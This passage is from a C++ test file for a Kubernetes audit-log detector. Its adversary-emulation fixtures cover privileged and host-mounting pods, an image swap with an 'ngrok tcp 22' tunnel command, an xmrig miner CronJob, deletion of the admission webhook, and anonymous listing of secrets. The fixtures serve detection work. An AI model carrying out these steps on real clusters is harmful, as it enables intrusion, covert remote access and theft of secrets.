  const json capture = service("dns", "sandbox", {{"externalIPs", {"8.8.8.8"}}});
  auto fs = write(d, "create", "sandbox", capture);
  REQUIRE(rules(fs) == std::vector<std::string>{"policy-violation", "service-external-ips"});
  CHECK(fs[0].severity == Severity::kHigh);
  CHECK(fs[0].kind == "Service");
  CHECK(fs[0].details.at("rules") == "service.externalIPNotAllowed");
  CHECK(fs[0].details.at("policies") == "service-external-ips");
  CHECK(fs[0].summary ==
        "Service sandbox/dns was admitted despite enforced policy violations "
        "(service.externalIPNotAllowed): the admission webhook failed open, was bypassed or was "
        "down");
  REQUIRE(fs[0].violations.size() == 1);
  CHECK(fs[0].violations[0].find("[service-external-ips] service.externalIPNotAllowed: external "
                                 "IP \"8.8.8.8\" is not allowed") == 0);
  // A change that leaves the exposure as it was is not judged again.
  json relabelled = capture;
  relabelled["metadata"]["labels"] = {{"tier", "edge"}};
  CHECK(write(d, "update", "sandbox", relabelled).empty());
  CHECK(
      write(d, "patch", "sandbox", relabelled, {{"metadata", {{"labels", {{"a", "b"}}}}}}).empty());
  // The built-in set allows NodePort; kube-system is exempt from the externalIPs policy.
  CHECK(rules(write(d, "create", "sandbox", service("np", "sandbox", {{"type", "NodePort"}}))) ==
        std::vector<std::string>{"service-exposed"});
  CHECK(rules(write(d, "create", "kube-system",
                    service("dns", "kube-system", {{"externalIPs", {"8.8.8.8"}}}))) ==
        std::vector<std::string>{"service-external-ips"});

  // A policy of one's own in audit mode: a finding of medium severity; in warn mode, none unless
  // warnings are reported.
  auto load = [](const std::string& mode) {
    auto r = policy::loadPolicies({{"s.yaml",
                                    "apiVersion: policy.kube-customs.io/v1alpha1\n"
                                    "kind: DeploymentPolicy\nmetadata: {name: types}\n"
                                    "spec:\n  mode: " +
                                        mode +
                                        "\n"
                                        "  services: {allowedTypes: [ClusterIP]}\n"}});
    REQUIRE(r.ok());
    return r.policies;
  };
  Detector audited(withPolicies(load("audit")));
  fs = write(audited, "create", "shop", service("web", "shop", {{"type", "LoadBalancer"}}));
  REQUIRE(rules(fs) == std::vector<std::string>{"policy-violation", "service-exposed"});
  CHECK(fs[0].severity == Severity::kMedium);
  CHECK(fs[0].summary == "Service shop/web violates audited policies (service.typeNotAllowed)");
  Detector warned(withPolicies(load("warn")));
  CHECK(
      rules(write(warned, "create", "shop", service("web", "shop", {{"type", "LoadBalancer"}}))) ==
      std::vector<std::string>{"service-exposed"});
  DetectorOptions reporting = withPolicies(load("warn"));
  reporting.reportWarnViolations = true;
  Detector warnedReported(reporting);
  fs = write(warnedReported, "create", "shop", service("web", "shop", {{"type", "LoadBalancer"}}));
  REQUIRE(rules(fs) == std::vector<std::string>{"policy-violation", "service-exposed"});
  CHECK(fs[0].severity == Severity::kLow);

  // A change of ports alone is judged again, as the webhook judges it, by a port policy.
  auto ports = policy::loadPolicies({{"p.yaml",
                                      "apiVersion: policy.kube-customs.io/v1alpha1\n"
                                      "kind: DeploymentPolicy\nmetadata: {name: ports}\n"
                                      "spec:\n  mode: audit\n"
                                      "  services: {allowedPorts: [53]}\n"}});
  REQUIRE(ports.ok());
  Detector byPorts(withPolicies(ports.policies));
  json dns = service("dns", "shop", json::object());
  CHECK(write(byPorts, "create", "shop", dns).empty());
  dns["spec"]["ports"][0]["port"] = 5353;
  fs = write(byPorts, "update", "shop", dns);
  REQUIRE(rules(fs) == std::vector<std::string>{"policy-violation"});
  CHECK(fs[0].summary == "Service shop/dns violates audited policies (service.portNotAllowed)");
}

// The podConnect rules re-applied to the sessions the audit log shows: an exec by an identity the
// policy does not allow got past the webhook (or the webhook was not asked).
TEST_CASE("SessionPoliciesAreReappliedToExecsThatGotThrough", "[detections][podConnect]") {
  auto r = policy::loadPolicies({{"s.yaml", R"(apiVersion: policy.kube-customs.io/v1alpha1
kind: DeploymentPolicy
metadata: {name: sessions}
spec:
  podConnect: {allowedGroups: [oncall]}
  exemptions: {namespaces: [sandbox]}
)"}});
  REQUIRE(r.ok());
  DetectorOptions o;
  o.policies = [set = r.policies] { return set; };
  Detector d(o);
  auto exec = [](const std::string& id, const std::string& stage, const std::string& ns,
                 const std::string& groups) {
    return R"({"kind":"Event","apiVersion":"audit.k8s.io/v1","level":"Metadata","auditID":")" + id +
           R"(","stage":")" + stage + R"(","requestURI":"/api/v1/namespaces/)" + ns +
           R"(/pods/web-1/exec?command=sh&container=app&stdin=true&stdout=true&tty=true",
      "verb":"create","user":{"username":"mallory@example.com","groups":)" +
           groups + R"(},
      "objectRef":{"resource":"pods","namespace":")" +
           ns +
           R"(","name":"web-1","apiVersion":"v1","subresource":"exec"},
      "responseStatus":{"metadata":{},"code":101},
      "requestReceivedTimestamp":"2026-01-10T10:00:00.100000Z",
      "stageTimestamp":"2026-01-10T10:00:00.180000Z"})";
  };
  auto fs = feed(d, exec("s-1", "ResponseStarted", "shop", R"(["system:authenticated"])"));
  REQUIRE(rules(fs) == std::vector<std::string>{"policy-violation", "pod-exec"});
  CHECK(fs[0].severity == Severity::kHigh);
  CHECK(fs[0].kind == "Pod");
  CHECK(fs[0].details.at("rules") == "podConnect.notAllowed");
  CHECK(fs[0].summary ==
        "exec into pod shop/web-1 by mallory@example.com was admitted despite enforced policy "
        "violations (podConnect.notAllowed): the admission webhook did not judge it "
        "(webhook.judgePodConnect off, or it failed open, was bypassed or was down)");
  // The same session's end is not reported again; an on-call member and an exempt namespace
  // give only the session itself.
  CHECK(feed(d, exec("s-1", "ResponseComplete", "shop", R"(["system:authenticated"])")).empty());
  CHECK(rules(feed(d, exec("s-2", "ResponseStarted", "shop", R"(["oncall"])"))) ==
        std::vector<std::string>{"pod-exec"});
  CHECK(rules(feed(d, exec("s-3", "ResponseStarted", "sandbox", R"(["devs"])"))) ==
        std::vector<std::string>{"pod-exec"});
}

TEST_CASE("ScoresAttachAndPortForward", "[detections]") {
  Detector d(DetectorOptions{});
  Ev e;
  e.auditID = "a-attach";
  e.stage = "ResponseStarted";
  e.code = 101;
  e.uri = "/api/v1/namespaces/shop/pods/web-1/attach?container=app&stdin=true&stdout=true&tty=true";
  e.user = "bob@example.com";
  e.resource = "pods";
  e.subresource = "attach";
  e.ns = "shop";
  e.name = "web-1";
  e.level = "Metadata";
  auto fs = feed(d, e.str());
  REQUIRE(fs.size() == 1);
  CHECK(fs[0].rule == "pod-attach");
  CHECK(fs[0].severity == Severity::kMedium);

  e.auditID = "a-pf";
  e.verb = "get";
  e.subresource = "portforward";
  e.uri = "/api/v1/namespaces/shop/pods/web-1/portforward?ports=5432";
  fs = feed(d, e.str());
  REQUIRE(fs.size() == 1);
  CHECK(fs[0].rule == "pod-portforward");
  CHECK(fs[0].technique == "T1572");
  CHECK(fs[0].details.at("ports") == "5432");
}

// Adversary emulation 4: a pod created while the webhook was failing open.
TEST_CASE("EmulationPodAdmittedWhileWebhookFailedOpen", "[detections][emulation]") {
  DetectorOptions o;
  o.policies = defaultPolicies;
  Detector d(o);
  json p = pod("payments", "debug-shell", "pod-fo", "docker.io/library/busybox:1.36", nullptr,
               json::object(),
               {{"securityContext",
                 {{"privileged", true}, {"capabilities", {{"add", {"SYS_ADMIN", "NET_ADMIN"}}}}}},
                {"ports", {{{"containerPort", 22}, {"hostPort", 2222}}}}});
  Ev e;
  e.auditID = "a-fo";
  e.uri = "/api/v1/namespaces/payments/pods?fieldManager=kubectl-run";
  e.user = "bob@example.com";
  e.resource = "pods";
  e.ns = "payments";
  e.requestObject = p;
  e.responseObject = p;
  e.annotations["failed-open.validating.webhook.admission.k8s.io/round_0_index_0"] =
      "validate.kube-customs.io";
  auto fs = feed(d, e.str());
  const Finding* policy = rule(fs, "policy-violation");
  REQUIRE(policy != nullptr);
  CHECK(policy->severity == Severity::kHigh);
  CHECK(policy->details.at("rules").find("pss.privileged") != std::string::npos);
  CHECK(policy->details.at("rules").find("pss.capabilities") != std::string::npos);
  CHECK(policy->summary.find("failed open") != std::string::npos);
  CHECK_FALSE(policy->violations.empty());
  CHECK(policy->violations[0].rfind("[pod-security-baseline]", 0) == 0);
  REQUIRE(rule(fs, "dangerous-capability") != nullptr);
  CHECK(rule(fs, "dangerous-capability")->severity == Severity::kCritical);
  CHECK(rule(fs, "dangerous-capability")->details.at("what") == "app +SYS_ADMIN, app +NET_ADMIN");
  REQUIRE(rule(fs, "host-port") != nullptr);
  CHECK(rule(fs, "host-port")->details.at("what") == "app:2222");

  // The same pod denied (403) never got in: nothing.
  Detector d2(o);
  Ev denied = e;
  denied.code = 403;
  denied.responseObject = nullptr;
  CHECK(feed(d2, denied.str()).empty());
}

// Adversary emulation 5: a served workload's image swapped by an identity that never changed it.
TEST_CASE("EmulationServedWorkloadImageChangedByUnexpectedIdentity", "[detections][emulation]") {
  Detector d(DetectorOptions{});
  const std::string ci = "system:serviceaccount:ci:deployer";
  rollOut(d, ci, "shop", "storefront", "registry.example.com/shop/storefront:3.1.0", 1, "sf");

  Ev up;
  up.verb = "update";
  up.code = 200;
  up.auditID = "a-up1";
  up.uri = "/apis/apps/v1/namespaces/shop/deployments/storefront";
  up.user = ci;
  up.resource = "deployments";
  up.apiGroup = "apps";
  up.ns = "shop";
  up.name = "storefront";
  up.requestObject =
      deployment("shop", "storefront", "dep-sf", "registry.example.com/shop/storefront:3.2.0");
  up.responseObject = up.requestObject;
  up.time = at(3);
  CHECK(rule(feed(d, up.str()), "workload-image-changed") == nullptr);  // CI releases it

  Ev patch = up;
  patch.verb = "patch";
  patch.auditID = "a-patch-evil";
  patch.user = "mallory@example.com";
  patch.requestObject = {
      {"spec", {{"template", {{"spec", {{"$setElementOrder/containers", {{{"name", "app"}}}}}}}}}}};
  patch.responseObject = deployment("shop", "storefront", "dep-sf", "docker.io/attacker/defaced:1");
  patch.time = at(4);
  auto fs = feed(d, patch.str());
  const Finding* f = rule(fs, "workload-image-changed");
  REQUIRE(f != nullptr);
  CHECK(f->severity == Severity::kHigh);
  CHECK(f->technique == "T1491.001");
  CHECK(f->user == "mallory@example.com");
  CHECK(f->details.at("oldImages") == "registry.example.com/shop/storefront:3.2.0");
  CHECK(f->details.at("newImages") == "docker.io/attacker/defaced:1");
  CHECK(f->details.at("previousChangers") == ci);

  // Now mallory has changed it: a second change by mallory is not new.
  patch.auditID = "a-patch-evil-2";
  patch.responseObject = deployment("shop", "storefront", "dep-sf", "docker.io/attacker/defaced:2");
  CHECK(rule(feed(d, patch.str()), "workload-image-changed") == nullptr);

  // A command change counts too.
  json dep = deployment("shop", "storefront", "dep-sf", "docker.io/attacker/defaced:2");
  dep["spec"]["template"]["spec"]["containers"][0]["command"] = {"/bin/sh", "-c", "ngrok tcp 22"};
  Ev cmd = up;
  cmd.auditID = "a-cmd";
  cmd.user = "eve@example.com";
  cmd.requestObject = dep;
  cmd.responseObject = dep;
  fs = feed(d, cmd.str());
  REQUIRE(rule(fs, "workload-image-changed") != nullptr);
  CHECK(rule(fs, "workload-image-changed")->details.at("change") == "app: command changed");
}

// Adversary emulation 6: the admission webhook configuration deleted.
TEST_CASE("EmulationValidatingWebhookConfigurationDeleted", "[detections][emulation]") {
  Detector d(DetectorOptions{});
  const std::string ev =
      R"({"kind":"Event","apiVersion":"audit.k8s.io/v1","level":"RequestResponse",
    "auditID":"0f5c2a9e-77d1-4b8e-a1c3-5d6e7f809a1b","stage":"ResponseComplete",
    "requestURI":"/apis/admissionregistration.k8s.io/v1/validatingwebhookconfigurations/kube-customs",
    "verb":"delete","user":{"username":"mallory@example.com","groups":["system:authenticated"]},
    "sourceIPs":["203.0.113.50"],"userAgent":"kubectl/v1.30.1 (linux/amd64) kubernetes/7c48c2b",
    "objectRef":{"resource":"validatingwebhookconfigurations","name":"kube-customs","apiGroup":"admissionregistration.k8s.io","apiVersion":"v1"},
    "responseStatus":{"metadata":{},"status":"Success","code":200},
    "requestObject":{"kind":"DeleteOptions","apiVersion":"meta.k8s.io/__internal","propagationPolicy":"Background"},
    "responseObject":{"kind":"Status","apiVersion":"v1","metadata":{},"status":"Success","details":{"name":"kube-customs","group":"admissionregistration.k8s.io","kind":"validatingwebhookconfigurations","uid":"3e0b9c55-7a66-4b55-8c0c-3d7b8f4f2c10"}},
    "requestReceivedTimestamp":"2026-01-10T11:00:00.000000Z","stageTimestamp":"2026-01-10T11:00:00.012000Z",
    "annotations":{"authorization.k8s.io/decision":"allow","authorization.k8s.io/reason":"RBAC: allowed by ClusterRoleBinding \"ops\" of ClusterRole \"cluster-admin\" to User \"mallory@example.com\""}})";
  auto fs = feed(d, ev);
  REQUIRE(fs.size() == 1);
  CHECK(fs[0].rule == "webhook-config-changed");
  CHECK(fs[0].severity == Severity::kCritical);
  CHECK(fs[0].technique == "T1562.001");
  CHECK(fs[0].name == "kube-customs");
  CHECK(fs[0].user == "mallory@example.com");
  CHECK(fs[0].summary.find("deleted validatingwebhookconfigurations kube-customs") !=
        std::string::npos);

  // A change that makes a webhook fail open is named; a trusted identity is ignored.
  DetectorOptions o;
  o.trustedIdentities["webhook-config-changed"] = {"system:serviceaccount:cert-manager:*"};
  Detector d2(o);
  json cfg = {{"kind", "ValidatingWebhookConfiguration"},
              {"apiVersion", "admissionregistration.k8s.io/v1"},
              {"metadata", {{"name", "kube-customs"}}},
              {"webhooks", {{{"name", "validate.kube-customs.io"}, {"failurePolicy", "Ignore"}}}}};
  Ev up;
  up.auditID = "a-vwc";
  up.verb = "update";
  up.code = 200;
  up.uri = "/apis/admissionregistration.k8s.io/v1/validatingwebhookconfigurations/kube-customs";
  up.user = "mallory@example.com";
  up.resource = "validatingwebhookconfigurations";
  up.apiGroup = "admissionregistration.k8s.io";
  up.name = "kube-customs";
  up.requestObject = cfg;
  up.responseObject = cfg;
  fs = feed(d2, up.str());
  REQUIRE(fs.size() == 1);
  CHECK(fs[0].severity == Severity::kHigh);
  CHECK(fs[0].details.at("failOpenWebhooks") == "validate.kube-customs.io");
  up.auditID = "a-vwc-2";
  up.user = "system:serviceaccount:cert-manager:cert-manager-cainjector";
  CHECK(feed(d2, up.str()).empty());
}

TEST_CASE("WebhookConfigChangesAreComparedWithTheLastStateSeen", "[detections]") {
  DetectorOptions o;
  o.trustedIdentities["webhook-config-changed"] = {"system:serviceaccount:cert-manager:*"};
  Detector d(o);
  auto hook = [](std::string name, std::string policy, std::string ca) {
    return json{{"name", name},
                {"failurePolicy", policy},
                {"sideEffects", "None"},
                {"admissionReviewVersions", {"v1"}},
                {"clientConfig",
                 {{"service", {{"namespace", "kube-customs"}, {"name", "kube-customs"}}},
                  {"caBundle", ca}}},
                {"namespaceSelector",
                 {{"matchExpressions",
                   {{{"key", "kubernetes.io/metadata.name"},
                     {"operator", "NotIn"},
                     {"values", {"kube-customs"}}}}}}},
                {"rules",
                 {{{"apiGroups", {""}},
                   {"apiVersions", {"v1"}},
                   {"operations", {"CREATE", "UPDATE"}},
                   {"resources", {"pods"}}}}}};
  };
  auto config = [](json hooks, json labels = json::object()) {
    return json{{"kind", "ValidatingWebhookConfiguration"},
                {"apiVersion", "admissionregistration.k8s.io/v1"},
                {"metadata", {{"name", "kube-customs"}, {"labels", labels}}},
                {"webhooks", hooks}};
  };
  int n = 0;
  auto change = [&](std::string verb, json obj, std::string user = "mallory@example.com",
                    int code = 200) {
    Ev e;
    e.auditID = "vwc-" + std::to_string(++n);
    e.verb = verb;
    e.code = verb == "create" ? 201 : code;
    e.uri = "/apis/admissionregistration.k8s.io/v1/validatingwebhookconfigurations/kube-customs";
    e.user = user;
    e.resource = "validatingwebhookconfigurations";
    e.apiGroup = "admissionregistration.k8s.io";
    e.name = "kube-customs";
    e.requestObject = obj;  // a delete has none: null leaves the bodies out
    e.responseObject = obj;
    return feed(d, e.str());
  };
  const json pods = hook("validate.kube-customs.io", "Fail", "Q0Ex");

  // Created: nothing to compare with.
  auto fs = change("create", config({pods}), "helm@example.com");
  REQUIRE(fs.size() == 1);
  CHECK(fs[0].severity == Severity::kHigh);
  CHECK(fs[0].details.count("changes") == 0);

  // A CA bundle rotation is routine: reported, at low severity, and said so.
  json rotated = pods;
  rotated["clientConfig"]["caBundle"] = "Q0Ey";
  fs = change("patch", config({rotated}));
  REQUIRE(fs.size() == 1);
  CHECK(fs[0].severity == Severity::kLow);
  CHECK(fs[0].details.at("changes") == "webhook validate.kube-customs.io: caBundle rotated");
  CHECK(fs[0].summary ==
        "mallory@example.com patched validatingwebhookconfigurations kube-customs: webhook "
        "validate.kube-customs.io: caBundle rotated");

  // So is a change of labels only.
  fs = change("update", config({rotated}, {{"team", "security"}}));
  REQUIRE(fs.size() == 1);
  CHECK(fs[0].severity == Severity::kLow);
  CHECK(fs[0].details.at("changes") == "metadata only");

  // Failing open and carving namespaces out is what an attacker does before walking in.
  json weak = rotated;
  weak["failurePolicy"] = "Ignore";
  weak["namespaceSelector"]["matchExpressions"][0]["values"] = {"kube-customs", "sandbox"};
  fs = change("update", config({weak}));
  REQUIRE(fs.size() == 1);
  CHECK(fs[0].severity == Severity::kHigh);
  CHECK(fs[0].details.at("changes") ==
        "webhook validate.kube-customs.io: failurePolicy Fail -> Ignore; webhook "
        "validate.kube-customs.io: namespaceSelector changed");
  CHECK(fs[0].details.at("failOpenWebhooks") == "validate.kube-customs.io");

  // A denied change changes nothing: the next one is compared with the last admitted state.
  json narrowed = weak;
  narrowed["rules"][0]["operations"] = {"CREATE"};
  fs = change("update", config({narrowed}), "mallory@example.com", 403);
  CHECK(fs.empty());  // only changes that happened are reported
  fs = change("update", config({weak}));
  REQUIRE(fs.size() == 1);
  CHECK(fs[0].severity == Severity::kLow);
  CHECK(fs[0].details.at("changes") == "metadata only");

  // A trusted identity's change is not reported, but it is the state the next one meets.
  fs = change("update", config({narrowed}), "system:serviceaccount:cert-manager:cainjector");
  CHECK(fs.empty());
  json moved = narrowed;
  moved["clientConfig"]["service"]["name"] = "elsewhere";
  fs = change("update", config({moved}));
  REQUIRE(fs.size() == 1);
  CHECK(fs[0].details.at("changes") ==
        "webhook validate.kube-customs.io: clientConfig endpoint changed");

  // Webhooks replaced: one removed, one added.
  fs = change("update", config({hook("other.example.com", "Fail", "Q0Ex")}));
  REQUIRE(fs.size() == 1);
  CHECK(fs[0].severity == Severity::kHigh);
  CHECK(fs[0].details.at("changes") ==
        "webhook validate.kube-customs.io removed; webhook other.example.com added");

  // Deleted, then created again: the old state is gone.
  fs = change("delete", nullptr);
  REQUIRE(fs.size() == 1);
  CHECK(fs[0].severity == Severity::kCritical);
  fs = change("update", config({pods}));
  REQUIRE(fs.size() == 1);
  CHECK(fs[0].severity == Severity::kHigh);
  CHECK(fs[0].details.count("changes") == 0);
}

TEST_CASE("AdmissionPolicyBindingActionsComparedWithTheLastStateSeen", "[detections]") {
  Detector d(DetectorOptions{});
  auto binding = [](json actions) {
    return json{{"kind", "ValidatingAdmissionPolicyBinding"},
                {"apiVersion", "admissionregistration.k8s.io/v1"},
                {"metadata", {{"name", "no-privileged"}}},
                {"spec", {{"policyName", "no-privileged"}, {"validationActions", actions}}}};
  };
  int n = 0;
  auto update = [&](json obj) {
    Ev e;
    e.auditID = "vapb-" + std::to_string(++n);
    e.verb = "update";
    e.code = 200;
    e.user = "mallory@example.com";
    e.resource = "validatingadmissionpolicybindings";
    e.apiGroup = "admissionregistration.k8s.io";
    e.name = "no-privileged";
    e.requestObject = obj;
    e.responseObject = obj;
    return feed(d, e.str());
  };
  auto fs = update(binding({"Deny"}));
  REQUIRE(fs.size() == 1);
  CHECK(fs[0].details.count("changes") == 0);
  fs = update(binding({"Audit", "Warn"}));
  REQUIRE(fs.size() == 1);
  CHECK(fs[0].severity == Severity::kHigh);
  CHECK(fs[0].details.at("changes") == "validationActions Deny -> Audit+Warn");
}

TEST_CASE("EphemeralContainerAddedAndJudged", "[detections]") {
  Detector d(DetectorOptions{});
  json p = pod("shop", "web-1", "pod-e", "registry.example.com/shop/web:1");
  Ev c;
  c.auditID = "a-c";
  c.user = "ci";
  c.resource = "pods";
  c.ns = "shop";
  c.responseObject = p;
  feed(d, c.str());

  json withDebug = p;
  withDebug["spec"]["ephemeralContainers"] = {{{"name", "debugger-abcde"},
                                               {"image", "docker.io/library/busybox:1.36"},
                                               {"targetContainerName", "app"},
                                               {"securityContext", {{"privileged", true}}}}};
  Ev e;
  e.auditID = "a-eph";
  e.verb = "patch";
  e.code = 200;
  e.uri = "/api/v1/namespaces/shop/pods/web-1/ephemeralcontainers";
  e.user = "bob@example.com";
  e.resource = "pods";
  e.subresource = "ephemeralcontainers";
  e.ns = "shop";
  e.name = "web-1";
  e.requestObject = {
      {"spec", {{"ephemeralContainers", {{{"name", "debugger-abcde"}}}}}}};  // a patch
  e.responseObject = withDebug;
  auto fs = feed(d, e.str());
  const Finding* eph = rule(fs, "ephemeral-container");
  REQUIRE(eph != nullptr);
  CHECK(eph->severity == Severity::kHigh);
  CHECK(eph->container() == "debugger-abcde");
  CHECK(eph->user == "bob@example.com");
  const Finding* priv = rule(fs, "privileged-container");
  REQUIRE(priv != nullptr);
  CHECK(priv->container() == "debugger-abcde");

  // Body-less (truncated) event: still reported, without details.
  Ev t = e;
  t.auditID = "a-eph-t";
  t.requestObject = nullptr;
  t.responseObject = nullptr;
  t.annotations["audit.k8s.io/truncated"] = "true";
  fs = feed(d, t.str());
  REQUIRE(fs.size() == 1);
  CHECK(fs[0].rule == "ephemeral-container");
}

TEST_CASE("NodeDebugAndMirrorPods", "[detections]") {
  Detector d(DetectorOptions{});
  json dbg =
      pod("default", "node-debugger-worker-3-hx2lq", "pod-dbg", "docker.io/library/busybox:1.36",
          nullptr,
          {{"hostPID", true},
           {"hostNetwork", true},
           {"hostIPC", true},
           {"nodeName", "worker-3"},
           {"volumes", {{{"name", "host-root"}, {"hostPath", {{"path", "/"}, {"type", ""}}}}}}});
  Ev e;
  e.auditID = "a-dbg";
  e.user = "bob@example.com";
  e.resource = "pods";
  e.ns = "default";
  e.requestObject = dbg;
  e.responseObject = dbg;
  auto fs = feed(d, e.str());
  const Finding* f = rule(fs, "node-debug-pod");
  REQUIRE(f != nullptr);
  CHECK(f->severity == Severity::kHigh);
  CHECK(f->details.at("what") == "node worker-3");
  CHECK(rule(fs, "sensitive-host-path") != nullptr);

  json mirror = pod("kube-system", "backdoor-worker-3", "pod-m", "docker.io/library/alpine:3");
  mirror["metadata"]["annotations"] = {{"kubernetes.io/config.mirror", "3f1c"},
                                       {"kubernetes.io/config.source", "file"}};
  Ev m;
  m.auditID = "a-mirror";
  m.user = "system:node:worker-3";
  m.groups = {"system:nodes", "system:authenticated"};
  m.userAgent = "kubelet/v1.30.1 (linux/amd64) kubernetes/7c48c2b";
  m.resource = "pods";
  m.ns = "kube-system";
  m.requestObject = mirror;
  m.responseObject = mirror;
  fs = feed(d, m.str());
  REQUIRE(rule(fs, "mirror-pod") != nullptr);
  CHECK(rule(fs, "mirror-pod")->user == "system:node:worker-3");
  CHECK(rule(fs, "system-namespace-workload") == nullptr);  // a node is a system identity

  // The control plane's own static pods are expected.
  json apiserver = pod("kube-system", "kube-apiserver-cp-1", "pod-api",
                       "registry.k8s.io/kube-apiserver:v1.30.1");
  apiserver["metadata"]["annotations"] = {{"kubernetes.io/config.mirror", "9a"}};
  m.auditID = "a-mirror-api";
  m.user = "system:node:cp-1";
  m.requestObject = apiserver;
  m.responseObject = apiserver;
  CHECK(feed(d, m.str()).empty());
}

TEST_CASE("SystemNamespacesAndComponentNames", "[detections]") {
  Detector d(DetectorOptions{});
  auto create = [&](const std::string& ns, const std::string& name, const std::string& user,
                    const std::string& id) {
    json dep = deployment(ns, name, "uid-" + id, "registry.example.com/x:1");
    Ev e;
    e.auditID = id;
    e.user = user;
    e.resource = "deployments";
    e.apiGroup = "apps";
    e.ns = ns;
    e.responseObject = dep;
    return feed(d, e.str());
  };
  auto fs = create("kube-system", "metrics-helper", "alice@example.com", "s1");
  REQUIRE(rule(fs, "system-namespace-workload") != nullptr);
  CHECK(rule(fs, "system-namespace-workload")->severity == Severity::kHigh);
  CHECK(create("kube-system", "coredns",
               "system:serviceaccount:kube-system:generic-garbage-collector", "s2")
            .empty());
  // Another namespace's service account is not a system identity.
  CHECK(rule(create("kube-public", "x", "system:serviceaccount:ci:deployer", "s3"),
             "system-namespace-workload") != nullptr);

  fs = create("default", "kube-proxy", "alice@example.com", "s4");
  REQUIRE(rule(fs, "system-component-name") != nullptr);
  CHECK(rule(fs, "system-component-name")->severity == Severity::kMedium);
  fs = create("default", "kube-proxv", "alice@example.com", "s5");
  REQUIRE(rule(fs, "system-component-name") != nullptr);
  CHECK(rule(fs, "system-component-name")->severity == Severity::kHigh);
  CHECK(rule(fs, "system-component-name")->technique == "T1036.005");
  CHECK(create("default", "storefront", "alice@example.com", "s6").empty());

  CHECK(matchSystemComponent("coredns-5d78c9869d-abcde").exact);
  CHECK(matchSystemComponent("core-dns").component == "coredns");
  CHECK_FALSE(matchSystemComponent("core-dns").exact);
  CHECK(matchSystemComponent("kube-prometheus-stack").component.empty());
  CHECK(matchSystemComponent("etcd-0").exact);
}

TEST_CASE("NewCronJob", "[detections]") {
  Detector d(DetectorOptions{});
  json cj = {{"kind", "CronJob"},
             {"apiVersion", "batch/v1"},
             {"metadata", {{"name", "cleanup"}, {"namespace", "shop"}, {"uid", "cj-1"}}}};
  cj["spec"]["schedule"] = "*/5 * * * *";
  cj["spec"]["jobTemplate"]["spec"]["template"]["spec"] =
      podTemplateSpec("docker.io/xmrig/xmrig:6.21", {{"restartPolicy", "OnFailure"}});
  Ev e;
  e.auditID = "a-cj";
  e.user = "mallory@example.com";
  e.resource = "cronjobs";
  e.apiGroup = "batch";
  e.ns = "shop";
  e.responseObject = cj;
  auto fs = feed(d, e.str());
  REQUIRE(rule(fs, "cronjob-created") != nullptr);
  CHECK(rule(fs, "cronjob-created")->technique == "T1053.007");
  CHECK(rule(fs, "cronjob-created")->images ==
        std::vector<std::string>{"docker.io/xmrig/xmrig:6.21"});
}

TEST_CASE("ControlPathTampering", "[detections]") {
  Detector d(DetectorOptions{});
  Ev del;
  del.auditID = "a-ev";
  del.verb = "deletecollection";
  del.code = 200;
  del.uri = "/api/v1/namespaces/shop/events";
  del.user = "mallory@example.com";
  del.resource = "events";
  del.ns = "shop";
  auto fs = feed(d, del.str());
  REQUIRE(fs.size() == 1);
  CHECK(fs[0].rule == "events-deleted");
  CHECK(fs[0].severity == Severity::kHigh);
  CHECK(fs[0].technique == "T1070");
  del.auditID = "a-ev2";
  del.verb = "delete";
  del.apiGroup = "events.k8s.io";
  del.name = "web.17a9";
  fs = feed(d, del.str());
  REQUIRE(fs.size() == 1);
  CHECK(fs[0].severity == Severity::kMedium);

  Ev proxy;
  proxy.auditID = "a-proxy";
  proxy.stage = "ResponseStarted";
  proxy.verb = "create";
  proxy.code = 101;
  proxy.uri = "/api/v1/nodes/worker-3/proxy/exec/kube-system/kube-proxy-x/kube-proxy?command=sh";
  proxy.user = "mallory@example.com";
  proxy.resource = "nodes";
  proxy.subresource = "proxy";
  proxy.name = "worker-3";
  fs = feed(d, proxy.str());
  REQUIRE(fs.size() == 1);
  CHECK(fs[0].rule == "nodes-proxy-access");
  CHECK(fs[0].severity == Severity::kCritical);
  proxy.stage = "ResponseComplete";
  CHECK(feed(d, proxy.str()).empty());
  proxy.auditID = "a-proxy-metrics";
  proxy.verb = "get";
  proxy.code = 200;
  proxy.uri = "/api/v1/nodes/worker-3/proxy/metrics/cadvisor";
  fs = feed(d, proxy.str());
  REQUIRE(fs.size() == 1);
  CHECK(fs[0].severity == Severity::kLow);

  Ev anon;
  anon.auditID = "a-anon";
  anon.verb = "list";
  anon.code = 200;
  anon.uri = "/api/v1/secrets?limit=500";
  anon.user = "system:anonymous";
  anon.groups = {"system:unauthenticated"};
  anon.userAgent = "curl/8.5.0";
  anon.resource = "secrets";
  anon.level = "Metadata";
  fs = feed(d, anon.str());
  REQUIRE(fs.size() == 1);
  CHECK(fs[0].rule == "anonymous-request-allowed");
  CHECK(fs[0].technique == "T1078.001");
  anon.auditID = "a-anon-healthz";
  anon.uri = "/healthz";
  CHECK(feed(d, anon.str()).empty());
  anon.auditID = "a-anon-denied";
  anon.uri = "/api/v1/secrets";
  anon.code = 403;
  anon.annotations = {{"authorization.k8s.io/decision", "forbid"}};
  CHECK(feed(d, anon.str()).empty());

  Ev imp;
  imp.auditID = "a-imp";
  imp.verb = "get";
  imp.code = 200;
  imp.uri = "/api/v1/namespaces/kube-system/secrets/bootstrap-token-abcdef";
  imp.user = "bob@example.com";
  imp.resource = "secrets";
  imp.ns = "kube-system";
  imp.impersonated = {{"username", "ops-break-glass"}, {"groups", {"system:masters"}}};
  fs = feed(d, imp.str());
  REQUIRE(fs.size() == 1);
  CHECK(fs[0].rule == "privileged-impersonation");
  CHECK(fs[0].severity == Severity::kHigh);
  CHECK(fs[0].impersonatedUser == "ops-break-glass");
  imp.auditID = "a-imp2";
  imp.impersonated = {{"username", "jane@example.com"}, {"groups", {"developers"}}};
  CHECK(feed(d, imp.str()).empty());
}

TEST_CASE("BodiesFollowTheAuditSemantics", "[detections]") {
  Detector d(DetectorOptions{});
  json priv = pod("shop", "p", "pod-p", "nginx:1.25", nullptr, json::object(),
                  {{"securityContext", {{"privileged", true}}}});
  // A patch body is not an object: without a responseObject there is nothing to judge.
  Ev patch;
  patch.auditID = "a-p";
  patch.verb = "patch";
  patch.code = 200;
  patch.user = "bob@example.com";
  patch.resource = "pods";
  patch.ns = "shop";
  patch.name = "p";
  patch.requestObject = priv;
  CHECK(feed(d, patch.str()).empty());
  // Truncated events are body-less: what is left is not judged, and that is reported.
  Ev t;
  t.auditID = "a-t";
  t.user = "bob@example.com";
  t.resource = "pods";
  t.ns = "shop";
  t.requestObject = priv;
  t.annotations["audit.k8s.io/truncated"] = "true";
